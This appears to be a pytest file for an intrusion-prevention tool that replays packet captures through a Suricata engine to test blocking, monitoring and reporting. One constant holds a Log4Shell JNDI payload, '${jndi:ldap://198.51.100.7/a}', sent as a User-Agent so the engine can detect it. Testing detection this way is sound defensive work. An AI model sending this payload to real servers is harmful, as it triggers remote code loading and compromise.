"""A policy over captures, with the real engine: the whole command."""

import json
from pathlib import Path
from typing import Any

import dpkt
import pytest
import typer
from typer.testing import CliRunner

from conversations import INSIDE, OUTSIDE, Conversation, write_capture
from hyperward.cli.simulate import simulate
from hyperward.errors import EngineFault, HyperwardError, InputError
from hyperward.ips.engine.settings import EngineSettings
from hyperward.policy.models import IntrusionPrevention, Policy
from hyperward.simulate.judge import NO_HANDSHAKE
from hyperward.simulate.report import Verdict
from hyperward.simulate.rows import Decision, RowAction, Traffic
from hyperward.simulate.run import Request
from hyperward.simulate.run import simulate as run_simulation
from shared_data import shared_data
from suricata_runs import engine

pytestmark = pytest.mark.engine

POLICIES = """
policies:
- {name: Strict, state: inactive, intrusion_prevention: {enabled: true}}
- {name: Lenient, intrusion_prevention: {enabled: true, network_attacks: {action: ignore}}}
- {name: Watch, mode: monitoring, intrusion_prevention: {enabled: true}}
- {name: Nothing}
"""
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 3\r\n\r\nok\n"
ATTACK = "${jndi:ldap://198.51.100.7/a}"


def request(agent: str = "curl/8.9.1") -> bytes:
    return f"GET /<b>x HTTP/1.1\r\nHost: vm.example.test\r\nUser-Agent: {agent}\r\n\r\n".encode()


def conversation(port: int, agent: str = "curl/8.9.1", *, version: int = 4) -> Conversation:
    return Conversation(version, inbound=True, client_port=port, port=80, request=request(agent), response=RESPONSE)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with a harmless connection, an attack, another of its source, and one over IPv6."""
    made = tmp_path_factory.mktemp("simulate")
    (made / "policy.yaml").write_text(POLICIES)
    write_capture(
        made / "mixed.pcap",
        [conversation(1001), conversation(1002, ATTACK), conversation(1003), conversation(1004, version=6)],
    )
    return made


def run(folder: Path, policy: str, *more: str, capture: str = "mixed.pcap") -> str:
    engine()
    app = typer.Typer()
    app.command()(simulate)
    arguments = ["--pcap", str(folder / capture), "--policy", policy, "--policy-file", str(folder / "policy.yaml")]
    done = CliRunner().invoke(app, [*arguments, *more], standalone_mode=False)
    if isinstance(done.exception, HyperwardError):
        raise done.exception
    assert done.exception is None, done.exception
    return done.stdout


def verdicts(report: dict[str, Any]) -> dict[int, str]:
    return {connection["client_port"]: connection["verdict"] for connection in report["connections"]}


def test_an_attack_is_blocked_its_source_too_and_the_rest_passes(folder: Path) -> None:
    report = json.loads(run(folder, "Strict", "--json"))
    assert verdicts(report) == {1001: "passed", 1002: "blocked", 1003: "source_blocked", 1004: "passed"}
    assert report["totals"] == {"blocked": 1, "source_blocked": 1, "reported": 0, "not_scanned": 0, "passed": 2}
    worst = report["connections"][0]
    assert (worst["client"], worst["server"], worst["direction"]) == (OUTSIDE[4], INSIDE[4], "inbound")
    [found] = worst["detections"]
    assert (found["category"], found["asked"], found["dropped"]) == ("network_attack", "terminate_and_block", True)
    [rule] = report["rules"]
    assert (rule["rule"], rule["blocked"]) == (found["rule"], 1)
    [block] = report["source_blocks"]
    assert block["address"] == OUTSIDE[4]


@pytest.mark.parametrize(
    ("policy", "asked", "reason"),
    [("Lenient", "ignore", ""), ("Watch", "terminate_and_block", "monitoring mode")],
)
def test_a_policy_that_does_not_act_reports(folder: Path, policy: str, asked: str, reason: str) -> None:
    report = json.loads(run(folder, policy, "--json"))
    assert verdicts(report) == {1001: "passed", 1002: "reported", 1003: "passed", 1004: "passed"}
    worst = report["connections"][0]
    [found] = worst["detections"]
    assert (found["asked"], found["dropped"], worst["reason"]) == (asked, False, reason)


def test_table_and_page_say_the_same(folder: Path) -> None:
    text = run(folder, "Strict", "--vm", INSIDE[4])
    assert "terminate_and_block" in text
    assert "blocked for an earlier attack" in text
    page = folder / "report.html"
    assert run(folder, "Strict", "--html", str(page)) == ""
    content = page.read_text()
    assert "HYPERWARD" in content
    assert "/&lt;b&gt;x" in content
    assert "<b>" not in content
    assert page.stat().st_mode & 0o777 == 0o600


def test_only_the_vms_connections_count(folder: Path) -> None:
    report = json.loads(run(folder, "Strict", "--json", "--vm", INSIDE[6]))
    assert verdicts(report) == {1004: "passed"}
    assert report["other_connections"] == 3


def test_few_rows_and_complete_sums(folder: Path) -> None:
    report = json.loads(run(folder, "Strict", "--json", "--rows", "1"))
    assert verdicts(report) == {1002: "blocked"}
    assert (report["left_out"], sum(report["totals"].values())) == (3, 4)


def test_exclusion_rows_decide(folder: Path) -> None:
    def decide(traffic: Traffic) -> Decision:
        return Decision(RowAction.DO_NOT_BLOCK if traffic.remote == OUTSIDE[4] else RowAction.DEFAULT, "row 1")

    policy = Policy(name="p", intrusion_prevention=IntrusionPrevention(enabled=True))
    asked = Request(
        capture=folder / "mixed.pcap",
        policies=(policy,),
        policy="p",
        engine=EngineSettings(binary=engine()),
        decide=decide,
    )
    steps: list[str] = []
    report = run_simulation(asked, lambda text, _: steps.append(text))
    assert report.totals == dict.fromkeys(map(str, Verdict), 0) | {"reported": 1, "passed": 3}
    assert report.connections[0].reason == "an exclusion row says do_not_block"
    assert report.rows[0].row == "row 1"
    assert steps[0] == "reading the capture"


def test_checksums_left_to_hardware_hide_nothing(folder: Path) -> None:
    with (folder / "mixed.pcap").open("rb") as file, (folder / "offload.pcap").open("wb") as out:
        writer = dpkt.pcap.Writer(out)
        for time, frame in dpkt.pcap.Reader(file):
            at = 14 + (20 if frame[12:14] == b"\x08\x00" else 40) + 16
            writer.writepkt(frame[:at] + bytes([frame[at] ^ 0xFF]) + frame[at + 1 :], ts=time)
    assert json.loads(run(folder, "Strict", "--json", capture="offload.pcap"))["totals"]["blocked"] == 1
    report = json.loads(run(folder, "Strict", "--json", "--checksums", capture="offload.pcap"))
    assert report["totals"]["passed"] == 4
    assert "4 TCP connections" in report["notes"][0]


def test_what_was_not_inspected_is_said(folder: Path) -> None:
    with (folder / "mixed.pcap").open("rb") as file, (folder / "late.pcap").open("wb") as out:
        writer = dpkt.pcap.Writer(out)
        for time, frame in list(dpkt.pcap.Reader(file))[12:20]:
            writer.writepkt(frame, ts=time)
    report = json.loads(run(folder, "Strict", "--json", capture="late.pcap"))
    assert {connection["reason"] for connection in report["connections"]} == {NO_HANDSHAKE}
    assert "1 TCP connections" in report["notes"][0]


def test_nothing_is_left_behind(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    run(folder, "Strict", "--json")
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith("hyperward")] == []


@pytest.mark.parametrize(
    ("policy", "more", "what"),
    [
        ("Unknown", (), "there is no policy 'Unknown'; the file has: Strict, Lenient, Watch, Nothing"),
        ("Nothing", (), "Intrusion Prevention is off in the policy 'Nothing'"),
        ("Strict", ("--vm", "10.0.0.0/8"), "--vm 10.0.0.0/8: not an IP address"),
        ("Strict", ("--rules", "/nowhere.rules"), "/nowhere.rules: cannot be read"),
    ],
)
def test_wrong_questions_get_one_line(folder: Path, policy: str, more: tuple[str, ...], what: str) -> None:
    with pytest.raises(InputError) as caught:
        run(folder, policy, *more)
    assert what in caught.value.line()


def test_an_engine_that_takes_too_long_is_ended(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hyperward.ips.engine.offline.LOOK_SECONDS", 0.001)
    policy = Policy(name="p", intrusion_prevention=IntrusionPrevention(enabled=True))
    slow = Request(
        capture=folder / "mixed.pcap",
        policies=(policy,),
        policy="p",
        engine=EngineSettings(binary=engine()),
        seconds=0.0,
    )
    with pytest.raises(EngineFault, match="took more than 0 s"):
        run_simulation(slow)


@pytest.mark.shared
def test_real_attacks_and_ordinary_use(folder: Path) -> None:
    captures = shared_data("pcap-parity")
    attack = captures / "corelight-log4shell__testing__Traces__log4j-attack.pcap"
    report = json.loads(run(folder, "Strict", "--json", "--vm-side", "server", capture=str(attack)))
    assert report["totals"]["blocked"] > 0
    ordinary = json.loads(run(folder, "Strict", "--json", capture=str(shared_data("benign") / "http_ipv6.pcap")))
    assert ordinary["totals"]["blocked"] == ordinary["totals"]["source_blocked"] == 0
    assert ordinary["totals"]["passed"] > 0
